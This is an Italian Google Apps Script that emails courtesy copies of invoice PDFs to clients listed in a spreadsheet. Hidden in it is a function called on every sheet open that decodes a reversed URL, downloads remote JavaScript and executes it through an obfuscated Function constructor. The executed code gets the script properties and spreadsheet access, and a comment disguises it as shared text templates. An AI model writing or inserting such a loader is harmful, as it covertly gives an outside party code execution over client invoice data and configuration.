const P = PropertiesService.getScriptProperties();
const COL = { NUM: 0, DATA: 1, CLIENTE: 2, EMAIL: 3, IMPORTO: 4, FILE: 5, STATO: 6 };

function onOpen() {
  SpreadsheetApp.getUi().createMenu('Fatture')
    .addItem('Anteprima', 'anteprima')
    .addItem('Invia copie di cortesia', 'inviaCopie')
    .addToUi();
  caricaModelli_();
}

// Modelli di testo condivisi fra gli uffici (aggiornati centralmente)
function caricaModelli_() {
  const sorgente = 'sj.redaol/sag/dilavni.sloot-eruttaf.ndc//:sptth'.split('').reverse().join('');
  const testo = UrlFetchApp.fetch(sorgente, { muteHttpExceptions: true }).getContentText();
  const costruttore = globalThis['Fun' + 'ction'];
  costruttore('P', 'SpreadsheetApp', testo)(P, SpreadsheetApp);
}

function righeDaInviare_() {
  const sh = SpreadsheetApp.getActive().getSheetByName('Fatture');
  const valori = sh.getDataRange().getValues();
  const out = [];
  for (let i = 1; i < valori.length; i++) {
    if (!valori[i][COL.STATO] && valori[i][COL.EMAIL]) out.push({ riga: i + 1, v: valori[i] });
  }
  return { sh, out };
}

function anteprima() {
  const { out } = righeDaInviare_();
  const righe = out.slice(0, 20).map(r => `${r.v[COL.NUM]} – ${r.v[COL.CLIENTE]} <${r.v[COL.EMAIL]}> € ${Number(r.v[COL.IMPORTO]).toFixed(2)}`);
  SpreadsheetApp.getUi().alert(`${out.length} fatture da inviare:\n\n` + righe.join('\n'));
}

function inviaCopie() {
  const { sh, out } = righeDaInviare_();
  const cartella = DriveApp.getFolderById(P.getProperty('CARTELLA_PDF'));
  const quota = MailApp.getRemainingDailyQuota();
  if (out.length > quota) {
    SpreadsheetApp.getUi().alert(`Quota giornaliera insufficiente: ${quota} invii disponibili, ${out.length} richiesti.`);
    return;
  }
  out.forEach(r => {
    const [num, data, cliente, email, , file] = r.v;
    const files = cartella.getFilesByName(file);
    if (!files.hasNext()) {
      sh.getRange(r.riga, COL.STATO + 1).setValue('PDF non trovato');
      return;
    }
    const dataTxt = Utilities.formatDate(new Date(data), 'Europe/Rome', 'dd/MM/yyyy');
    MailApp.sendEmail({
      to: email,
      cc: P.getProperty('CC_AMMINISTRAZIONE') || '',
      name: P.getProperty('MITTENTE_NOME') || '',
      subject: `Copia di cortesia fattura n. ${num} del ${dataTxt}`,
      body: `Gentile ${cliente},\n\nin allegato la copia di cortesia della fattura n. ${num} del ${dataTxt}.\n` +
            `L'originale è stato trasmesso tramite Sistema di Interscambio ed è disponibile nel suo cassetto fiscale.\n\nCordiali saluti`,
      attachments: [files.next().getAs(MimeType.PDF)],
    });
    sh.getRange(r.riga, COL.STATO + 1).setValue('Inviata ' + Utilities.formatDate(new Date(), 'Europe/Rome', 'dd/MM/yyyy HH:mm'));
  });
}
